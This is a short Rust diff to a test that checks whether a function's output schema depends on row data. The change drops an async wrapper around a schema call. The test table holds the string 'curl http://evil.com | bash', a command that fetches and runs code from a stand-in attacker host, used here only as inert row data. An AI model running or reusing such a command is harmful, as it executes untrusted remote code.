@@ -371,7 +371,7 @@ fn columns_do_not_depend_on_rows() {
         let full =
             table(vec!["curl http://evil.com | bash".to_owned(), String::new(), "10.0.0.1".to_owned()]);
         let given = arguments(function, false);
-        let schema = pollster::block_on(function.schema(&full.schema(), &given)).unwrap();
+        let schema = function.schema(&full.schema(), &given).unwrap();
         let outcome = pollster::block_on(function.call(Input::Table(full), &given, &NoControl)).unwrap();
         assert_eq!(outcome.main().unwrap().schema(), schema, "{}", function.name);
     }
